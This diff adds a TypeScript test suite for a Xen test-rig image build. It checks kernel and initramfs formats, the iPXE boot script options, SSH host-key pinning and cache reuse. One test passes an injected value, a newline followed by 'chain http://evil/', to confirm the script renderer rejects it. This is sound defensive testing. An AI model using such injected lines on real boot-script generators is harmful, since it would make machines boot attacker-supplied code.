@@ -1,0 +1,102 @@
+// The twin's images as the runtime consumes them: real files from the real build (cold the
+// first time on a machine, then cached), the cache contract, keys and the iPXE script.
+import assert from 'node:assert/strict';
+import { readFileSync, statSync } from 'node:fs';
+import type { EnsureResult } from '../../twin/images/index.ts';
+import { DEFAULT_XEN_COMMAND_LINE, ensureTwinImagesDetailed, renderIpxeScript } from '../../twin/images/index.ts';
+import { twinKeyPaths } from '../../twin/images/keys.ts';
+import { twinPorts } from '../../twin/paths.ts';
+
+const MiB = 1024 * 1024;
+const head = (file: string, n: number): Buffer => readFileSync(file).subarray(0, n);
+
+describe('twin images', function () {
+  this.timeout(30 * 60_000);
+  let first: EnsureResult;
+
+  before(async () => {
+    first = await ensureTwinImagesDetailed();
+  });
+
+  it('gives Xen as a plain (gunzipped) ELF and a bzImage kernel', () => {
+    const { xen, dom0Kernel, guestKernel } = first.images;
+    assert.deepEqual([...head(xen, 4)], [0x7f, 0x45, 0x4c, 0x46], 'xen must be ELF, not gzip');
+    assert.ok(statSync(xen).size > 1 * MiB);
+    for (const k of [dom0Kernel, guestKernel]) {
+      assert.equal(readFileSync(k).subarray(0x202, 0x206).toString('latin1'), 'HdrS', `${k} is not a bzImage`);
+      assert.ok(statSync(k).size > 4 * MiB);
+    }
+  });
+
+  it('gives a dom0 initramfs of a sane size and a small guest initramfs', () => {
+    const { dom0Initrd, guestInitrd } = first.images;
+    const dom0 = statSync(dom0Initrd).size;
+    assert.ok(dom0 > 30 * MiB && dom0 < 400 * MiB, `dom0 initramfs is ${dom0} bytes`);
+    const magic = head(dom0Initrd, 6).toString('latin1');
+    assert.ok(
+      magic === '070701' || magic.startsWith('\x1f\x8b'),
+      `dom0 initramfs starts with ${JSON.stringify(magic)}`,
+    );
+    const guest = statSync(guestInitrd).size;
+    assert.ok(guest > 1 * MiB && guest < 64 * MiB, `guest initramfs is ${guest} bytes`);
+    assert.deepEqual([...head(guestInitrd, 2)], [0x1f, 0x8b]);
+    assert.ok(statSync(first.images.seabios).size >= 128 * 1024);
+  });
+
+  it('names the versions it was built from', () => {
+    assert.match(first.images.xenVersion, /^4\.17\.\d+$/);
+    assert.match(first.images.kernelVersion, /^\d+\.\d+\.\d+-\d+-amd64$/);
+    assert.equal(first.manifest.key, first.images.key);
+  });
+
+  it('serves a TFTP tree whose iPXE script boots Xen with the IOMMU options', () => {
+    const script = readFileSync(`${first.images.tftpDir}/boot.ipxe`, 'utf8');
+    assert.match(script, /^#!ipxe\n/);
+    const kernel = script.split('\n').find((l) => l.startsWith('kernel '));
+    assert.ok(kernel, script);
+    for (const opt of [
+      'iommu=verbose,debug',
+      'loglvl=all',
+      'guest_loglvl=all',
+      'conring_size=1M',
+      'console=com1',
+      'com1=115200,8n1',
+      'dom0_mem=1024M,max:1024M',
+      'dom0_max_vcpus=1',
+    ]) {
+      assert.ok(kernel.split(' ').includes(opt), `missing ${opt} in: ${kernel}`);
+    }
+    assert.match(script, /^module tftp:\/\/\$\{next-server\}\/vmlinuz console=hvc0/m);
+    assert.match(script, /^module tftp:\/\/\$\{next-server\}\/dom0\.cpio$/m);
+    assert.match(script, /^boot$/m);
+  });
+
+  it('renders the iPXE script from a rig Xen command line, refusing injected lines', () => {
+    const s = renderIpxeScript('console=com1 iommu=off');
+    assert.match(s, /^kernel tftp:\/\/\$\{next-server\}\/xen console=com1 iommu=off$/m);
+    assert.ok(DEFAULT_XEN_COMMAND_LINE.includes('iommu=verbose,debug'));
+    assert.throws(() => renderIpxeScript('console=com1\nchain http://evil/'), /single line/);
+  });
+
+  it('pins each SSH server host key under its loopback port', () => {
+    const k = twinKeyPaths();
+    const known = readFileSync(k.knownHosts, 'utf8');
+    for (const [port, key] of [
+      [twinPorts.controllerSsh, k.controllerHost],
+      [twinPorts.dom0Ssh, k.dom0Host],
+      [twinPorts.guestSsh, k.guestHost],
+    ] as const) {
+      const pub = readFileSync(`${key}.pub`, 'utf8').split(' ').slice(0, 2).join(' ');
+      assert.ok(known.includes(`[127.0.0.1]:${port} ${pub}`), `known_hosts lacks port ${port}`);
+      assert.equal(statSync(key).mode & 0o077, 0, `${key} is readable by others`);
+    }
+  });
+
+  it('reuses the cache on the second call without rebuilding', async () => {
+    const again = await ensureTwinImagesDetailed();
+    assert.equal(again.built, false);
+    assert.equal(again.images.dir, first.images.dir);
+    assert.equal(again.manifest.builtAt, first.manifest.builtAt);
+    assert.deepEqual(again.images, first.images);
+  });
+});
